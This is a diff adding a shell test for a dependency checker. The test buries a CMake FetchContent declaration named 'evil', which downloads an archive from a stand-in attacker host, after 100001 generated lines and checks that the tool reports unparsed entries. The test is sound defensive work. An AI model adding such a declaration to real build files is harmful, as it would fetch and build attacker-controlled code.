@@ -266,3 +266,10 @@ evaluated()
 	rm new
 	passes
 }
+
+@test "what stands behind the last entry that is read is told whenever it changes" {
+	seq -f 'find_package(e%.0f)' 100001 | stage CMakeLists.txt && commit
+	echo 'FetchContent_Declare(evil URL https://evil.example/x.tgz)' >>CMakeLists.txt && git add -A
+	run mc deps check
+	expect_output "more declarations than are read (UNPARSED)"
+}
